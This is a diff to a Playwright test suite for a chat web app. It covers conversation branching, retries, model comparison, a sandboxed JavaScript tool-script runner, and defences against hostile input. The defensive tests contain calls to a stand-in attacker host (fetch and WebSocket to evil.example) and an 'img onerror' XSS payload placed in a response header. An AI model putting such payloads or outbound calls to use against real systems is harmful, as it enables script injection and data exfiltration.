@@ -3,6 +3,7 @@
 import itertools
 import json
 import re
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -168,27 +169,180 @@ def test_a_lost_connection_keeps_what_came_and_says_what_to_do(open_page: Open, 
     assert page.locator(".markdown").inner_text() == "Half of it"
 
 
-def test_a_message_is_edited_and_the_reply_made_again(open_page: Open, scripted: Scripted) -> None:
+def sent(page: Page) -> Any:
+    """The body of the request in the wire view."""
+    page.get_by_role("tab", name="Request").click()
+    return json.loads(page.locator("#wire-panel code").first.inner_text())
+
+
+def test_an_edit_begins_a_branch_and_both_can_be_gone_back_to(open_page: Open, scripted: Scripted) -> None:
     page = open_page()
     send(page, "First")
     is_done(page)
+    scripted.say("Another one.")
     button(page, "Edit").click()
     page.get_by_label("Edit").fill("Second")
-    button(page, "Save").click()
-    scripted.say("Another one.")
-    button(page, "Try again").click()
+    button(page, "Save and send").click()
     page.get_by_text("Another one.").wait_for()
     is_done(page)
     assert page.locator(".card").count() == 2
-    assert json.loads(page.locator("#wire-panel code").first.inner_text())["messages"] == [
-        {"role": "user", "content": "Second"}
-    ]
+    assert sent(page)["messages"] == [{"role": "user", "content": "Second"}]
+    branches = page.get_by_role("group", name="Branches")
+    assert branches.inner_text().split() == ["‹", "2", "/", "2", "›"]
+    button(page, "Next branch").is_disabled()
+    button(page, "Previous branch").click()
+    assert page.locator(".card").all_inner_texts()[1].startswith("Assistant\n\nHello.")
+    assert sent(page)["messages"][0] == {"role": "user", "content": "First"}
+    button(page, "Next branch").click()
+    assert page.locator(".card.user .text").inner_text() == "Second"
+
+
+def test_a_retry_keeps_the_reply_that_was_there(open_page: Open, scripted: Scripted) -> None:
+    page = open_page()
+    send(page, "Hi")
+    is_done(page)
+    for text in ("Two.", "Three."):
+        scripted.say(text)
+        button(page, "Try again").click()
+        page.get_by_text(text).wait_for()
+        is_done(page)
+    assert page.get_by_role("group", name="Branches").inner_text().split()[1:4] == ["3", "/", "3"]
+    scripted.engine.reason = "engine_died"
+    button(page, "Try again").click()
+    page.get_by_role("alert").filter(has_text="The model cannot answer now").wait_for()
+    assert page.locator(".markdown").all_inner_texts() == ["Three."]
+    button(page, "Previous branch").click()
+    assert page.locator(".markdown").all_inner_texts() == ["Two."]
+    button(page, "Remove").nth(1).click()
+    assert page.get_by_role("group", name="Branches").inner_text().split()[1:4] == ["2", "/", "2"]
+
+
+def test_several_replies_stand_side_by_side_and_one_is_gone_on_with(
+    open_page: Open, scripted: Scripted
+) -> None:
+    page = open_page()
+    page.get_by_text("Sampling", exact=True).click()
+    page.get_by_label("Replies (n)").fill("3")
+    send(page, "Hi")
+    is_done(page)
+    assert page.locator(".lanes .markdown").all_inner_texts() == ["Hello."] * 3
+    assert sent(page)["n"] == 3
+    assert "all replies" in page.locator(".stats").first.inner_text()
+    button(page, "Continue with this one").nth(1).click()
+    assert page.locator(".card.chosen h3").inner_text().endswith("· 3")
+    page.get_by_label("Replies (n)").fill("")
+    send(page, "More")
+    page.locator(".card").nth(4).wait_for()
+    is_done(page)
+    assert [each["role"] for each in sent(page)["messages"]] == ["user", "assistant", "user"]
+    page.get_by_role("tab", name="Code").click()
+    assert "for choice in" not in page.locator("#code-panel code").inner_text()
+
+
+def test_two_models_reply_side_by_side(open_page: Open, scripted: Scripted) -> None:
+    page = open_page()
+    scripted.say("Because.\n</think>\n\nHello.")
+    page.get_by_label("Compare with").select_option(label="alias · Thinking")
+    send(page, "Hi")
+    is_done(page)
+    titles = page.locator(".lanes h3").all_inner_texts()
+    assert len(titles) == 2
+    assert titles[0].endswith("· Direct")
+    assert titles[1] == "Assistant · alias · Thinking"
+    assert page.locator(".lanes .card").nth(1).locator(".reasoning").inner_text().strip() == "Because."
+    bodies: list[Any] = []
+    for n in range(2):
+        page.locator("#exchange").select_option(index=n)
+        bodies.append(sent(page))
+    assert [body["model"] == "alias" for body in bodies] == [False, True]
+    assert "chat_template_kwargs" not in bodies[0]
+    assert bodies[1]["chat_template_kwargs"] == {"enable_thinking": True}
+
+
+def test_a_comparison_that_is_stopped_keeps_both_parts(open_page: Open, scripted: Scripted) -> None:
+    scripted.say("lamp " * 5000)
+    scripted.pace(0.01)
+    page = open_page()
+    page.get_by_label("Compare with").select_option(label="alias · Direct")
+    send(page, "Hi")
+    page.locator(".lanes .markdown", has_text="lamp lamp").nth(1).wait_for()
+    button(page, "Stop").click()
+    page.get_by_role("status").filter(has_text="Stopped.").wait_for()
+    assert page.locator(".lanes .card").count() == 2
+
+
+SCRIPTS = {
+    'return { sky: "clear", city: args.city };': '{"sky":"clear","city":"León"}',
+    "return name;": "get_weather",
+    "return await Promise.resolve(7);": "7",
+    "return [typeof document, typeof sessionStorage, typeof window].join();": "undefined,undefined,undefined",
+}
+
+
+@pytest.mark.parametrize("script", SCRIPTS)
+def test_a_script_gives_the_results(open_page: Open, scripted: Scripted, script: str) -> None:
+    scripted.say(CALL)
+    page = open_page()
+    button(page, "A tool call").click()
+    page.get_by_label("Script for results, in JavaScript").fill(script)
+    button(page, "Send").click()
+    is_done(page)
+    button(page, "Run the script").click()
+    page.wait_for_function("document.querySelector('.call textarea').value !== ''")
+    assert page.get_by_label("Result of the call").input_value() == SCRIPTS[script]
+
+
+LEAVING = (
+    "await fetch('/v1/models')",
+    "await fetch('https://evil.example/')",
+    "importScripts('/web/dom.js')",
+    "await import('/web/dom.js')",
+    "new WebSocket('wss://evil.example/')",
+    "new EventSource('/v1/models')",
+    "new Worker('/web/tool_worker.js')",
+    "const request = new XMLHttpRequest(); request.open('GET', '/v1/models', false); request.send()",
+)
+
+
+@pytest.mark.parametrize("script", LEAVING)
+def test_a_script_reaches_nothing(open_page: Open, scripted: Scripted, script: str) -> None:
+    asked: list[str] = []
+    page = open_page(tolerated="Content Security Policy")
+    page.on("response", lambda response: asked.append(response.url))  # the browser refuses it before that
+    outcome = page.evaluate(
+        """async script => {
+          const { runScript } = await import("/web/tools.js");
+          const [came, failed] = [text => `came: ${text}`, error => `failed: ${error.message}`];
+          return await runScript(script, "f", {}).then(came, failed);
+        }""",
+        f"{script}; await new Promise(done => setTimeout(done, 300)); return 'whole'",
+    )
+    assert [url for url in asked if "/web/" not in url] == []
+    assert outcome.startswith("failed:") or outcome == "came: whole"
+    if script.startswith(("await", "importScripts", "const")):
+        assert outcome.startswith("failed:"), outcome
+
+
+def test_a_script_that_does_not_end_is_stopped(open_page: Open, scripted: Scripted) -> None:
+    outcome = open_page().evaluate(
+        """async () => {
+          const { runScript } = await import("/web/tools.js");
+          const failed = error => error.message;
+          const endless = await runScript("for (;;);", "f", {}).catch(failed);
+          return [endless, await runScript("throw 5", "f", {}).catch(failed)];
+        }"""
+    )
+    assert outcome == ["The script did not end within 5 seconds.", "5"]
 
 
 def test_a_conversation_is_exported_and_imported(open_page: Open, scripted: Scripted, tmp_path: Path) -> None:
     page = open_page()
     page.get_by_label("System message").fill("Be brief.")
     send(page, "Hi")
+    is_done(page)
+    scripted.say("Another.")
+    button(page, "Try again").click()
+    page.get_by_text("Another.").wait_for()
     is_done(page)
     with page.expect_download() as saved:
         button(page, "Export").click()
@@ -198,6 +352,8 @@ def test_a_conversation_is_exported_and_imported(open_page: Open, scripted: Scri
     button(page, "New conversation").click()
     assert page.locator(".card").count() == 0
     page.locator("input[type=file]").set_input_files(file)
+    page.locator(".card.assistant", has_text="Another.").wait_for()
+    button(page, "Previous branch").click()
     page.locator(".card.assistant", has_text="Hello.").wait_for()
     assert page.get_by_label("System message").input_value() == "Be brief."
 
@@ -295,8 +451,11 @@ def test_hostile_names_and_results_run_nothing(open_page: Open, scripted: Script
             "format": "json_schema",
             "schema": {"properties": {text: {"enum": [text]}}, text: text},
             "calls": [{"id": text, "name": text, "arguments": text, "result": text}],
+            "title": text,
+            "turn": 1 + n // 2,
+            "parent": 199 + n - n % 2,
         }
-        for text in HOSTILE
+        for n, text in enumerate(HOSTILE)
     ]
     people = [{"role": "user", "content": text} for text in HOSTILE]
     schema = json.dumps({text: {"type": text} for text in HOSTILE})
@@ -315,6 +474,73 @@ def test_hostile_names_and_results_run_nothing(open_page: Open, scripted: Script
         "[...document.querySelectorAll('main *')].flatMap(node => node.getAttributeNames())"
     )
     assert [name for name in attributes if name.startswith("on")] == []
+
+
+def fulfilled(route: Any, *, error: dict[str, str]) -> None:
+    route.fulfill(status=400, json={"error": error})
+
+
+def runs_nothing(page: Page) -> None:
+    forbidden = "script, img, iframe, object, embed, base, link, style, form"
+    assert page.locator(f"main :is({forbidden})").count() == 0
+    assert page.evaluate("window.ran") is None
+
+
+def test_hostile_events_run_nothing(open_page: Open, scripted: Scripted) -> None:
+    """In every place of a stream: texts, reasoning, calls, tokens, reasons, headers."""
+    page = open_page()
+    events: list[str] = []
+    for n, text in enumerate(HOSTILE):
+        function = {"name": text, "arguments": text}
+        token = {"token": text, "logprob": -1.0, "top_logprobs": [{"token": text, "logprob": -2.0}]}
+        delta = {
+            "content": f"{text}\n\n",
+            "reasoning_content": text,
+            "tool_calls": [{"index": n, "id": text, "type": "function", "function": function}],
+        }
+        choice = {"index": 0, "delta": delta, "finish_reason": text, "logprobs": {"content": [token]}}
+        events.append(f"data: {json.dumps({'id': text, 'model': text, 'choices': [choice]})}\n\n")
+    body = "".join([*events, "data: [DONE]\n\n"])
+    headers = {"x-request-id": "<img src=x onerror=top.ran=1>", "content-type": "text/event-stream"}
+    page.route("**/v1/chat/completions", lambda route: route.fulfill(status=200, headers=headers, body=body))
+    send(page, HOSTILE[0])
+    is_done(page)
+    page.locator("section.call").nth(199).wait_for()
+    for tab in ("Events", "Headers", "Code", "Request"):
+        page.get_by_role("tab", name=tab).click()
+        runs_nothing(page)
+    button(page, "Send the results").click()
+    page.locator(".card.tool").nth(199).wait_for()
+    runs_nothing(page)
+
+
+def test_hostile_models_errors_and_usage_run_nothing(open_page: Open, scripted: Scripted) -> None:
+    page = open_page(key="")
+    models = [{"id": text, "object": "model", "context_length": 100} for text in HOSTILE]
+    counts = ("requests", "failed", "prompt_tokens", "cached_tokens", "completion_tokens", "reasoning_tokens")
+    rows = [{"model": text, "day": text, **dict.fromkeys(counts, 1)} for text in HOSTILE]
+    report = {"rows": rows, "totals": dict.fromkeys(counts, 200)}
+    page.route("**/v1/models", lambda route: route.fulfill(json={"data": models}))
+    page.route("**/v1/usage?*", lambda route: route.fulfill(json=report))
+    page.locator("input[type=password]").fill("sk-x")
+    page.keyboard.press("Tab")
+    page.locator("option", has_text="<script>").nth(3).wait_for(state="attached")
+    runs_nothing(page)
+    for text in HOSTILE[:: len(HOSTILE) // 20]:
+        error = {"message": text, "type": text, "code": text, "param": text}
+        page.route(
+            "**/v1/chat/completions",
+            partial(fulfilled, error=error),
+        )
+        send(page, text)
+        page.get_by_role("alert").filter(has_text=text.split("\n")[0].strip()[:40]).wait_for()
+        runs_nothing(page)
+    page.goto(f"{scripted.url}/usage")
+    page.locator("input[type=password]").fill("sk-x")
+    for by in ("model", "day"):
+        page.get_by_label("By").select_option(by)
+        page.locator("tbody tr").nth(199).wait_for()
+        runs_nothing(page)
 
 
 PIECES = [
